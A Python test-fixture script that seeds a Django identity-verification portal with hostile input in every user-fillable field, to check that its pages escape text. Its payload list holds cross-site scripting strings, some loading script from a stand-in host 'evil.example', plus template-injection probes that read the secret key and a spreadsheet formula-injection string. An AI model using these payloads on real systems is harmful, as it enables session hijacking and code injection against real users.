"""Cross-site scripting payloads in every field that an applicant, a client or a colleague can fill.

Runs in a portal's environment. It writes the rows past all validation: the pages must escape text even if a check
missed it.
"""

from datetime import timedelta
from typing import Any

from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import Group
from django.contrib.contenttypes.models import ContentType
from django.utils import timezone

from verification.audit import viewing
from verification.models import (
    ApiClient,
    ApiKey,
    Applicant,
    AuditEvent,
    Brand,
    Consent,
    CspReport,
    Document,
    Export,
    Policy,
    Review,
    RiskFlag,
    SavedFilter,
    StaffUser,
    VendorAccount,
    Verification,
    VerificationAttempt,
)
from verification.states import Flag, Status

# A payload that runs sets `window.ran` and opens an alert; one that becomes an element has the attribute `data-bad`.
RUN = "window.ran=1;alert(1)"
PAYLOADS = (
    f"<script data-bad>{RUN}</script>",
    f"<ScRiPt data-bad>{RUN}</sCrIpT >",
    f"<scr<script>ipt data-bad>{RUN}</scr</script>ipt>",
    "<script data-bad src=//evil.example/x.js></script>",
    f"<script data-bad type=module>{RUN}</script>",
    f"<img data-bad src=x onerror={RUN}>",
    f'<img data-bad src=x onerror="{RUN}"//',
    f"<img/data-bad/src=x/onerror={RUN}>",
    f"<svg data-bad onload={RUN}>",
    f"<svg data-bad><script>{RUN}</script></svg>",
    f"<svg data-bad><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg data-bad><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<math data-bad><mtext><mglyph><style><img src onerror={RUN}></style></mglyph></mtext></math>",
    f"<body data-bad onload={RUN}>",
    f"<details data-bad open ontoggle={RUN}>",
    f"<input data-bad autofocus onfocus={RUN}>",
    f"<video data-bad><source onerror={RUN}></video>",
    f"<audio data-bad src=x onerror={RUN}>",
    f"<marquee data-bad onstart={RUN}>x</marquee>",
    "<iframe data-bad srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe data-bad src=javascript:{RUN}></iframe>",
    f"<object data-bad data=javascript:{RUN}></object>",
    "<embed data-bad src=//evil.example/x.swf>",
    f"<a data-bad href=javascript:{RUN}>click</a>",
    f"<a data-bad href='java&#x09;script:{RUN}'>click</a>",
    f"<form data-bad action=javascript:{RUN}><button>go</button></form>",
    "<base data-bad href=//evil.example/>",
    "<meta data-bad http-equiv=refresh content='0;url=//evil.example/'>",
    "<link data-bad rel=stylesheet href=//evil.example/x.css>",
    "<style data-bad>@import '//evil.example/x.css';*{color:red}</style>",
    '<div data-bad style="background:url(//evil.example/x)">x</div>',
    f'" data-bad onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' data-bad onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"` data-bad onmouseover=`{RUN}` x=`",
    f'"><img data-bad src=x onerror={RUN}>',
    f"'><img data-bad src=x onerror={RUN}>",
    f"</textarea><img data-bad src=x onerror={RUN}>",
    f"</title><img data-bad src=x onerror={RUN}>",
    f"</script><img data-bad src=x onerror={RUN}>",
    f"</style></noscript></template></select><img data-bad src=x onerror={RUN}>",
    f"--><img data-bad src=x onerror={RUN}><!--",
    f"]]><img data-bad src=x onerror={RUN}>",
    f"\\u003cimg data-bad src=x onerror={RUN}\\u003e",
    f'\\"}};{RUN};//',
    f"'-{RUN}-'",
    f"${{{RUN}}}",
    "{{7777*7}}{{ settings.SECRET_KEY }}{% debug %}{# x #}",
    "{% load i18n %}{% include 'admin/base.html' %}",
    "%(reference)s %s %d {0} {reference.__class__}",
    f"&lt;img data-bad src=x onerror={RUN}&gt;&#60;img data-bad src=x onerror={RUN}&#62;",
    f"\u202e<img data-bad src=x onerror={RUN}>\u2066",
    f"\uff1cscript data-bad\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2028{RUN}\u2029<img data-bad src=x onerror={RUN}>",
    f"<a\x0bdata-bad\x0chref=javascript:{RUN}>x</a>\ufeff",
    f"javascript:{RUN}//'/*\"/*`/*--></noscript></title></textarea></style></script><svg data-bad onload={RUN}>",
    f"data:text/html,<script data-bad>{RUN}</script>",
    f"=cmd|'/c calc'!A1<img data-bad src=x onerror={RUN}>",
    "Zalgo " + "e" + "\u0301" * 40 + "<b data-bad>",
)


def fill() -> None:
    """Creates one case for each payload, with the payload in all of its fields, and one of each other record."""
    now = timezone.now()
    pattern = VerificationAttempt.objects.filter(calls__isnull=False).select_related("verification").first()
    assert pattern is not None
    reviewer = StaffUser.objects.get(username="reviewer")
    for number, text in enumerate(PAYLOADS):
        colleague = _colleague(number, text)
        case = _case(number, text, pattern, now)
        _evidence(number, text, case, pattern, now)
        _judged(number, text, case, colleague, now)
        _others(number, text, colleague, now)
    for about in (reviewer, *StaffUser.objects.filter(username__startswith="colleague")[:3]):
        LogEntry.objects.create(
            user=reviewer,
            content_type=ContentType.objects.get_for_model(StaffUser),
            object_id=str(about.pk),
            object_repr=PAYLOADS[0],
            action_flag=CHANGE,
            change_message=PAYLOADS[5],
        )
    VendorAccount.objects.update(paused_at=now, pause_reason=PAYLOADS[5], probe_at=now + timedelta(days=1))
    _draft(now)


def _colleague(number: int, text: str) -> StaffUser:
    """Creates a user whose name Django's validator would refuse."""
    user = StaffUser.objects.create(
        username=f"colleague-{number} {text}"[:150],
        first_name=text[:150],
        last_name=text[:150],
        email=text[:254],
        is_staff=True,
    )
    user.groups.add(Group.objects.get(name="Reviewer"))
    return user


def _case(number: int, text: str, pattern: VerificationAttempt, now: Any) -> Verification:
    applicant = Applicant.objects.create(
        reference=f"{text} {number}", name=text, email=f"{text}@{number}", created_at=now
    )
    old = pattern.verification
    return Verification.objects.create(
        applicant=applicant,
        policy=old.policy,
        mode=old.mode,
        status=Status.IN_REVIEW,
        link_hash=f"{number:064d}",
        link_expires_at=now + timedelta(days=1),
        reasons=[text, "similarity_band"],
        main_reason=text[:40],
        hint=text[:40],
        attempts_used=1,
        created_at=now,
        queued_at=now,
        due_at=now + timedelta(hours=1),
    )


def _evidence(number: int, text: str, case: Verification, pattern: VerificationAttempt, now: Any) -> None:
    Consent.objects.create(
        verification=case,
        given=True,
        text_version=text[:20],
        text_sha256="0" * 64,
        locale=text[:16],
        at=now,
        ip_address="127.0.0.1",
        user_agent=text,
    )
    Document.objects.create(
        verification=case,
        original_name="",
        original_sha256="1" * 64,
        original_size=1,
        normalised_name="",
        normalised_sha256="1" * 64,
        normalised_size=1,
        facts={text: text, "width": text},
        uploaded_at=now,
    )
    signals = {
        "camera": f"OBS virtual {text}",
        "user_agent": text,
        text: text,
        "automated": text,
        "platform": text,
    }
    call = pattern.calls.order_by("-number")[0]
    attempt = VerificationAttempt.objects.get(pk=pattern.pk)
    # Its pictures are another applicant's, because this one has none.
    attempt.original_name = attempt.normalised_name = attempt.best_frame_name = ""
    attempt.pk, attempt.public_id = None, f"att_{'a' * 20}{_letters(number)}"
    attempt.verification, attempt.document, attempt.signals = case, case.documents.get(), signals
    attempt.facts, attempt.result_code, attempt.best_frame_note = {text: {"x": text}}, text[:128], text[:40]
    attempt.save(force_insert=True)
    call.pk, call.public_id = None, f"call_{'a' * 20}{_letters(number)}"
    call.attempt, call.request_id, call.code = attempt, text[:128], text[:128]
    call.description, call.region = text[:300], text[:20]
    call.save(force_insert=True)
    RiskFlag.objects.create(
        verification=case,
        attempt=attempt,
        code=Flag.SIMILAR_VIDEO,
        facts={text: text, "case": text},
        raised_at=now,
    )


def _letters(number: int) -> str:
    return "".join("abcdefghij"[int(digit)] for digit in f"{number:04d}")


def _judged(number: int, text: str, case: Verification, colleague: StaffUser, now: Any) -> None:
    Review.objects.create(
        verification=case,
        verdict="snooze",
        reason_code=text[:40],
        note=" ".join(PAYLOADS),
        evidence_sha256="0" * 64,
        by=colleague,
        at=now,
    )
    AuditEvent.objects.create(
        at=now,
        kind="case.snoozed",
        actor_kind="reviewer",
        actor_id=text[:150],
        subject_kind="verification",
        subject_id=case.public_id,
        data={text: text, "reason": text, "list": [text, {"x": text}]},
    )
    AuditEvent.objects.create(
        at=now,
        kind=viewing.ALERT,
        actor_kind="system",
        actor_id=text[:150],
        subject_kind=text[:20],
        subject_id=text[:60],
        data={"looks": text, "count": text, "minutes": text, "who": text},
    )
    case.claimed_by, case.claimed_until = (
        (colleague, now + timedelta(hours=3)) if number % 2 else (None, None)
    )
    case.save()


def _others(number: int, text: str, colleague: StaffUser, now: Any) -> None:
    SavedFilter.objects.create(
        owner=colleague, name=f"{number} {text}"[:60], query=text[:300], shared=True, created_at=now
    )
    Export.objects.create(
        by=text[:150],
        reason=text[:300],
        period_start=now,
        period_end=now + timedelta(days=1),
        file_name="none",
        file_sha256="0" * 64,
        file_size=1,
        created_at=now,
        expires_at=now + timedelta(days=1),
    )
    brand = Brand.objects.create(
        name=f"{number} {text}"[:100],
        contact="help@bank.example",
        privacy_notice="https://bank.example",
        legal_basis=text[:300],
        data_protection_contact="help@bank.example",
        created_at=now,
        changed_at=now,
    )
    client = ApiClient.objects.create(name=f"{number} {text}"[:100], brand=brand, created_at=now)
    Applicant.objects.filter(reference=f"{text} {number}").update(client=client)
    CspReport.objects.create(
        day=now.date(), directive=text[:40], page=text[:200], blocked=f"{number} {text}"[:150]
    )
    ApiKey.objects.create(
        client=client, prefix=text[:16], key_sha256=f"{number:064d}", scopes=[text], created_at=now
    )
    for kind in ("account.paused", "policy.drafted"):
        AuditEvent.objects.create(
            at=now,
            kind=kind,
            actor_kind="operator",
            actor_id=text[:150],
            subject_kind="account",
            subject_id=text[:60],
            data={"code": text, "per_cent": text},
        )


def _draft(now: Any) -> None:
    """Policy versions and a draft, all with hostile reasons."""
    old = Policy.current()
    first, second = StaffUser.objects.filter(username__startswith="colleague").order_by("pk")[:2]
    terms = {
        field.name: getattr(old, field.name)
        for field in Policy._meta.concrete_fields
        if field.name not in {"id", "version", "change_reason"}
    }
    for step, text in enumerate(PAYLOADS[:30], start=1):
        ended = (
            {"activated_by": second, "activated_at": now}
            if step < 30
            else {"activated_by": None, "activated_at": None}
        )
        own = {"drafted_by": first, "drafted_at": now, "max_attempts": 2 + step % 2, **ended}
        Policy.objects.create(**{**terms, **own}, version=old.version + step, change_reason=text[:300])
